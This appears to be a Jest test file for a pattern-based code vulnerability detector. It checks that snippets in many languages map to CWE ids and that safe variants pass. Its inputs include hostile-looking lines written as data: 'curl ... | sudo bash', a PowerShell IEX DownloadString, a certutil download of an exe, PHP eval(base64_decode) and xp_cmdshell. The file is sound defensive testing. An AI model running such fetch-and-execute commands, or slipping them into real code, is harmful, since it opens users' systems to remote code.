import { describe, expect, it } from '@jest/globals';
import { PATTERN_RULES } from '../../../../src/ai/providers/local/pattern-rules.js';
import { matchPatterns } from '../../../../src/ai/providers/local/patterns.js';

function found(language: string, text: string): string[] {
  return matchPatterns(text, language).vulnerabilities.map(({ cweId, line }) => `${cweId}:${line}`);
}

describe('matchPatterns', () => {
  it.each([
    ['python', 'import os\nos.system("rm " + name)', ['CWE-78:2']],
    ['python', 'eval(input())\npickle.loads(data)', ['CWE-95:1', 'CWE-502:2']],
    ['python', 'cursor.execute("SELECT * FROM t WHERE id = %s" % uid)', ['CWE-89:1']],
    ['php', '<?php\neval(base64_decode($x));\n$_POST["f"]($_POST["x"]);', ['CWE-95:2', 'CWE-95:3']],
    ['shell', 'set -e\ncurl -fsSL https://example.com/x | sudo bash\n', ['CWE-494:2']],
    ['powershell', 'IEX (New-Object Net.WebClient).DownloadString("http://x")', ['CWE-95:1', 'CWE-494:1']],
    ['ruby', 'system("ls #{dir}")\nYAML.load(x)', ['CWE-78:1', 'CWE-502:2']],
    ['java', 'Runtime.getRuntime().exec("sh " + x);\nnew ObjectInputStream(in);', ['CWE-78:1', 'CWE-502:2']],
    ['kotlin', 'MessageDigest.getInstance("MD5")', ['CWE-328:1']],
    ['c', 'char b[8];\ngets(b);\nprintf(b);', ['CWE-242:2', 'CWE-134:3']],
    ['cpp', 'strcpy(a, b);', ['CWE-120:1']],
    ['csharp', 'new SqlCommand("SELECT " + x);', ['CWE-89:1']],
    ['go', 'tls.Config{InsecureSkipVerify: true}', ['CWE-295:1']],
    ['vbscript', 'Set o = CreateObject("WScript.Shell")', ['CWE-78:1']],
    ['batch', 'certutil -urlcache -split -f http://x y.exe', ['CWE-494:1']],
    ['lua', 'os.execute(cmd)', ['CWE-78:1']],
    ['rust', '.danger_accept_invalid_certs(true)', ['CWE-295:1']],
    ['perl', 'system("ls $dir");', ['CWE-78:1']],
    ['sql', 'EXEC xp_cmdshell "dir"', ['CWE-78:1']],
    ['ruby', 'key = "-----BEGIN RSA PRIVATE KEY-----"', ['CWE-798:1']],
    ['python', 'password = "hunter22"', ['CWE-798:1']],
  ])('%s: %j', (language, text, expected) => {
    expect(found(language, text)).toEqual(expected);
  });

  it.each([
    ['python', '# os.system(x)\nos.system("ls")\neval("1 + 1")\nmodel.eval()\nre.exec()'],
    [
      'python',
      'cursor.execute("SELECT * FROM t WHERE id = %s", (uid,))\nyaml.load(f, Loader=yaml.SafeLoader)',
    ],
    ['php', '<?php echo htmlspecialchars($_GET["x"]); $stmt->execute([$_GET["x"]]);'],
    ['shell', 'curl -fsS https://example.com/x -o file\n# curl x | sh\neval "fixed"'],
    ['c', '// gets(b)\nfgets(b, 8, stdin);\nsnprintf(b, 8, "%s", a);\nprintf("hello");\nsystem("ls");'],
    ['java', 'statement.executeQuery("SELECT 1");\nrandom.exec("fixed")'],
    ['ruby', 'system("ls")\nYAML.safe_load(x)'],
  ])('leaves harmless %s alone', (language, text) => {
    expect(found(language, text)).toEqual([]);
  });

  it('is never sure, and says that it has searched for text', () => {
    const { vulnerabilities, level, limits } = matchPatterns('os.system(x)\neval(y)', 'python');
    expect(level).toBe('pattern-only');
    expect(limits.join()).toMatch(/not parsed/);
    for (const { confidence, severity } of vulnerabilities) {
      expect(confidence).toBe('low');
      expect(['low', 'medium']).toContain(severity);
    }
  });

  it('has no opinion on languages without rules', () => {
    expect(matchPatterns('x', 'json')).toMatchObject({ level: 'none', vulnerabilities: [] });
    expect(matchPatterns('os.system(x)', 'unknown')).toMatchObject({ level: 'none', vulnerabilities: [] });
    expect(matchPatterns('x', 'constructor')).toMatchObject({ level: 'none', vulnerabilities: [] });
  });

  it('lists a few lines of each kind', () => {
    const { vulnerabilities, limits } = matchPatterns('os.system(x)\n'.repeat(1_000), 'python');
    expect(vulnerabilities).toHaveLength(20);
    expect(limits.join()).toMatch(/more than 20 lines/);
  });

  it('takes time in proportion to the length of the text', () => {
    const parts = [
      '(',
      ' ',
      '\n',
      '"',
      "'",
      'a',
      '$',
      '`',
      '|',
      'eval(',
      'curl ',
      'exec("',
      'password=',
      '-----BEGIN ',
      'gets ',
      '#{',
    ];
    for (const part of parts) {
      const text = part.repeat(Math.ceil(1_000_000 / part.length));
      for (const language of Object.keys(PATTERN_RULES)) {
        for (const [, pattern] of PATTERN_RULES[language] ?? []) {
          const begun = process.cpuUsage();
          for (const _ of text.matchAll(pattern));
          const ms = process.cpuUsage(begun).user / 1_000;
          if (ms > 1_500) throw new Error(`${pattern.source} took ${ms} ms of CPU time on ${part}`);
        }
      }
    }
  }, 60_000);
});
